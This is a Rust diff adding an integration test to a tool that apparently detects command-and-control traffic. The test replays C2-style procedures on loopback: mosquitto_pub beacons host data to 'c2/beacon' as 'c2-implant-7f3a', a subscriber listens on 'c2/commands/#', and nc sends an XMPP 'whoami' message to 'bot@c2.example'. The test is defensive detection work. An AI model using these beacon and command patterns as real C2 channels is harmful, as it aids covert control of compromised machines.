@@ -244,3 +244,287 @@ fn watch_recognises_the_seed_procedures_on_loopback() {
         "{out}"
     );
 }
+
+fn tool(name: &str) -> Option<std::path::PathBuf> {
+    std::env::var_os("PATH").and_then(|paths| {
+        std::env::split_paths(&paths)
+            .chain([std::path::PathBuf::from("/usr/sbin")])
+            .map(|d| d.join(name))
+            .find(|p| p.is_file())
+    })
+}
+
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+/// Kills a child on drop, so a failing assertion does not leave a broker running.
+struct Running(std::process::Child);
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// The seeds' three procedures with the real tools: Mosquitto on 127.0.0.1, `mosquitto_pub`
+/// publishing host data to `c2/beacon`, `mosquitto_sub` on `c2/commands/#`, and an XMPP stanza
+/// piped through `nc`. Seen live by `watch` (with the process that sent each) and, from a
+/// tcpdump capture of the same traffic, by `hunt`. scripts/test.sh installs the tools when it
+/// runs as root; `PUBSUB_HUNT_REQUIRE_TOOLS=1` makes their absence a failure.
+#[test]
+fn seed_procedures_with_real_mosquitto_and_nc() {
+    let tools: Vec<_> = [
+        "mosquitto",
+        "mosquitto_pub",
+        "mosquitto_sub",
+        "nc",
+        "tcpdump",
+    ]
+    .iter()
+    .map(|t| (*t, tool(t)))
+    .collect();
+    let missing: Vec<&str> = tools
+        .iter()
+        .filter(|(_, p)| p.is_none())
+        .map(|(t, _)| *t)
+        .collect();
+    if !is_root() || !missing.is_empty() {
+        let why = format!("needs root and {missing:?}");
+        if std::env::var_os("PUBSUB_HUNT_REQUIRE_TOOLS").is_some() {
+            panic!("{why}");
+        }
+        eprintln!("note: real-tools test skipped: {why}");
+        return;
+    }
+    let path = |t: &str| {
+        tools
+            .iter()
+            .find(|(n, _)| *n == t)
+            .unwrap()
+            .1
+            .clone()
+            .unwrap()
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let (mqtt_port, xmpp_port) = (free_port(), free_port());
+    let conf = dir.path().join("mosquitto.conf");
+    std::fs::write(
+        &conf,
+        format!("listener {mqtt_port} 127.0.0.1\nallow_anonymous true\n"),
+    )
+    .unwrap();
+    let _broker = Running(
+        Command::new(path("mosquitto"))
+            .arg("-c")
+            .arg(&conf)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let xmpp = TcpListener::bind(("127.0.0.1", xmpp_port)).unwrap();
+    serve(xmpp);
+    let pcap = dir.path().join("procedures.pcap");
+    let mut tcpdump = Running(
+        Command::new(path("tcpdump"))
+            .args(["-i", "lo", "-U", "-s", "0", "-w"])
+            .arg(&pcap)
+            .args([
+                "tcp and (port",
+                &mqtt_port.to_string(),
+                "or port",
+                &xmpp_port.to_string(),
+                ")",
+            ])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let bin = assert_cmd::cargo::cargo_bin("pubsub-hunt");
+    let mut watch = Command::new(&bin)
+        .args([
+            "watch",
+            "--interface",
+            "lo",
+            "--report-every",
+            "1",
+            "--all-sessions",
+        ])
+        .args(["--filter", "tcp"])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stderr = BufReader::new(watch.stderr.take().unwrap());
+    let mut line = String::new();
+    stderr.read_line(&mut line).unwrap();
+    assert!(line.contains("watching lo"), "{line}");
+    std::thread::sleep(Duration::from_millis(1500));
+
+    let port = mqtt_port.to_string();
+    for _ in 0..2 {
+        let st = Command::new(path("mosquitto_pub"))
+            .args(["-h", "127.0.0.1", "-p", &port, "-i", "c2-implant-7f3a"])
+            .args(["-t", "c2/beacon", "-m", "host=ws-1;user=root;os=linux"])
+            .status()
+            .unwrap();
+        assert!(st.success());
+    }
+    let st = Command::new(path("mosquitto_sub"))
+        .args([
+            "-h",
+            "127.0.0.1",
+            "-p",
+            &port,
+            "-t",
+            "c2/commands/#",
+            "-W",
+            "2",
+        ])
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    // -W ends mosquitto_sub with a timeout status; it only has to have run.
+    assert!(st.code().is_some());
+    for _ in 0..2 {
+        let mut nc = Command::new(path("nc"))
+            .args(["-q", "2", "127.0.0.1", &xmpp_port.to_string()])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .spawn()
+            .unwrap();
+        nc.stdin
+            .take()
+            .unwrap()
+            .write_all(
+                b"<?xml version='1.0'?><stream:stream to='c2.example' xmlns='jabber:client' \
+                  xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>\
+                  <message to='bot@c2.example' type='chat'><body>whoami</body></message>",
+            )
+            .unwrap();
+        let _ = nc.wait();
+    }
+    std::thread::sleep(Duration::from_millis(800));
+    let _ = Command::new("kill")
+        .args(["-TERM", &watch.id().to_string()])
+        .status();
+    let mut out = String::new();
+    watch
+        .stdout
+        .take()
+        .unwrap()
+        .read_to_string(&mut out)
+        .unwrap();
+    let mut rest = String::new();
+    let _ = stderr.read_to_string(&mut rest);
+    assert_eq!(watch.wait().unwrap().code(), Some(0), "{rest}");
+    let _ = Command::new("kill")
+        .args(["-INT", &tcpdump.0.id().to_string()])
+        .status();
+    let _ = tcpdump.0.wait();
+
+    let live = parse(&out);
+    check_procedures(&live, mqtt_port, xmpp_port, true, &out);
+
+    let r = Command::new(&bin)
+        .args(["hunt", "--all-sessions"])
+        .arg(&pcap)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8(r.stdout).unwrap();
+    assert_eq!(
+        r.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&r.stderr)
+    );
+    check_procedures(&parse(&stdout), mqtt_port, xmpp_port, false, &stdout);
+}
+
+fn parse(out: &str) -> Vec<serde_json::Value> {
+    out.lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+fn basename(v: &serde_json::Value) -> String {
+    v.as_str()
+        .and_then(|p| std::path::Path::new(p).file_name())
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_default()
+}
+
+/// Each procedure is a session with its topic or stanza (and, live, its process).
+fn check_procedures(
+    lines: &[serde_json::Value],
+    mqtt_port: u16,
+    xmpp_port: u16,
+    live: bool,
+    out: &str,
+) {
+    let sessions: Vec<&serde_json::Value> =
+        lines.iter().filter(|l| l["kind"] == "session").collect();
+    let mqtt: Vec<_> = sessions
+        .iter()
+        .filter(|s| s["protocol"] == "MQTT" && s["dst_port"] == mqtt_port)
+        .collect();
+    let has_topic = |s: &serde_json::Value, dir: &str, name: &str| {
+        s["app"]["topics"]
+            .as_array()
+            .is_some_and(|t| t.iter().any(|t| t["direction"] == dir && t["name"] == name))
+    };
+    let publishers: Vec<_> = mqtt
+        .iter()
+        .filter(|s| has_topic(s, "publish", "c2/beacon"))
+        .collect();
+    assert_eq!(publishers.len(), 2, "{out}");
+    for p in &publishers {
+        assert!(
+            p["app"]["client_ids"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|c| c == "c2-implant-7f3a"),
+            "{p}"
+        );
+        // mosquitto_pub lives a few milliseconds: it can be gone (and its socket with it)
+        // before /proc is read, so its process may be unknown, but never someone else.
+        if live && !p["process"].is_null() {
+            assert_eq!(basename(&p["process"]), "mosquitto_pub", "{p}");
+        }
+    }
+    let subscribers: Vec<_> = mqtt
+        .iter()
+        .filter(|s| has_topic(s, "subscribe", "c2/commands/#"))
+        .collect();
+    assert_eq!(subscribers.len(), 1, "{out}");
+    if live {
+        assert_eq!(basename(&subscribers[0]["process"]), "mosquitto_sub");
+    }
+    let stanzas: Vec<_> = sessions
+        .iter()
+        .filter(|s| s["protocol"] == "XMPP" && s["dst_port"] == xmpp_port)
+        .collect();
+    assert_eq!(stanzas.len(), 2, "{out}");
+    for s in &stanzas {
+        assert!(
+            s["app"]["server_names"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|n| n == "c2.example"),
+            "{s}"
+        );
+        // Like mosquitto_pub, nc may be gone before a loaded machine reads /proc.
+        if live && !s["process"].is_null() {
+            assert!(basename(&s["process"]).starts_with("nc"), "{s}");
+        }
+    }
+}
